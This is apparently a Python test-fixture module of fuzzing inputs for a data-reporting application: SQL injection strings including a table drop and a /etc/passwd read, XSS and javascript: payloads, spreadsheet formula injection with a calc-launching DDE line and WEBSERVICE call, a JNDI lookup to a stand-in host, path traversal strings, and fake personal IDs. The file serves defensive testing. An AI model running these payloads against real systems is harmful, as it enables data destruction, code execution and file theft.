"""What people and files might bring: injections of every kind, things that are no dates or numbers, made-up personal values."""

from __future__ import annotations

import random
import re

IMAGE, SCRIPT = "![x](http://nobody.invalid/x.png)", "<script>alert(1)</script><img src=x onerror=alert(1)>"
LINK = "[a](javascript:alert(1))"
#: made up; no log may hold any of them
ID_NUMBER, PHONE, PERSON = "341222197903057890", "13951234567", "欧阳试验甲"
PERSONAL = (ID_NUMBER, PHONE, PERSON)
SQL = (
    "'; drop table dim_town; --", "' or '1'='1", "\") union select * from fct_case --", "$period_start", "x' or 1=1",
    "select * from read_csv('/etc/passwd')", "/* */", "--", "\\'; attach 'x'",
)  # fmt: skip
FORMULAS = (
    "=1+1", "@SUM(A1)", "+1+1", "-1+1", "\t=1+1", "\r=1+1", "\n=1+1", "＝1+1", "＋1+1", "－1+1", "＠SUM(A1)",
    "=cmd|'/c calc'!A0", '=HYPERLINK("http://nobody.invalid","x")', "=WEBSERVICE(\"http://nobody.invalid\")",
)  # fmt: skip
MARKUP = (
    IMAGE, SCRIPT, LINK, ":material/home: :red[x] $\\frac{a}{b}$", "`x` **x** ~~x~~", "# x\n\n- y", "<b>x</b>", "&lt;b&gt;&#60;",
    "{{ 1 + 1 }}", "{% raw %}", "{0.__class__}", "%(x)s %n", "${jndi:ldap://nobody.invalid}", "#panic(1)", "\\textbf{x}",
)  # fmt: skip
PATHS = (
    "../../../../etc/passwd", "..\\..\\x", "C:\\windows", "/etc/passwd", "file:///etc/passwd", "%00%2e%2e", "\\\\nobody\\x",
    "http://nobody.invalid/",
)  # fmt: skip
UNICODE = (
    "\x00", "a\x00b", "\u202e\u200b", "\u202excod.exe", "１２３", "２０２６-０１-０１", "\ufeff", "\ufffe", "é́́́", "👩‍👩‍👧‍👦",
    "\U0010ffff", "\x1b[31m",
    "\x7f", "\u2028x", "ｉ", "İı", "ﷺ", "़़़",
)  # fmt: skip
DATES = (
    "2026-02-30", "0000-00-00", "0001-01-01", "9999-12-31", "2026-1-1", "2026/01/01", "20260101", "2026-W01-1", "2026-01-01T00:00:00Z",
    "2026-06-31", "-2026-01-01", "1900-01-00", "epoch", "infinity", "today", "2026-00-10",
)  # fmt: skip
NUMBERS = (
    "-1", "0", "1e308", "1e999", "NaN", "-inf", "0x10", "1_000", "1,0,0", "999999999999999999999999", "0.1e-400", "١٢٣", "--1", "+", ".",
    "1.005",
    "(12.50)", "¥1元", "1" + "0" * 400,
)  # fmt: skip
LONG = ("9" * 400, "医" * 700, "a" * 5000, "(" * 900, "[" * 300 + "]" * 300, "\\" * 999, "，" * 2000)
PLAIN = (
    "", " ", ",", "none", "true", "全部", "未登记", "H99900100001", "340826", "390", "2026-06", "三级", "a,b,,c", '{"a": 1}', "[]",
    "\n\r\t",
)  # fmt: skip
VALUES = (
    *SQL, *FORMULAS, *MARKUP, *PATHS, *UNICODE, *DATES, *NUMBERS, *LONG, *PLAIN, *PERSONAL, f"{PERSON}{PHONE}", f"证件{ID_NUMBER}",
)  # fmt: skip
#: of a value, what must never reach a browser as it is
RAW = (IMAGE, "<script>alert(1)", LINK)
#: an error in the words of Python or of a library
INSIDE = re.compile(
    r"Traceback|\b\w+(Error|Exception)\b|duckdb\.|pyarrow|\bArrow\w+:|File \"|/site-packages/|0x[0-9a-f]{8,}"
)


def mixed(chance: random.Random) -> str:
    """A value as it stands, two joined, one cut, or one with a character somewhere."""
    value = chance.choice(VALUES)
    match chance.randrange(6):
        case 0:
            return value + chance.choice(VALUES)
        case 1:
            return value[: chance.randrange(len(value) + 1)]
        case 2:
            place = chance.randrange(len(value) + 1)
            return value[:place] + chance.choice("\x00\t\r\n'\"`$\\;|=<&\u202e\ufeff\u3000０") + value[place:]
        case 3:
            return "".join(
                chr(chance.choice((chance.randrange(1, 0xD800), chance.randrange(0xE000, 0x11000))))
                for _ in range(8)
            )
    return value
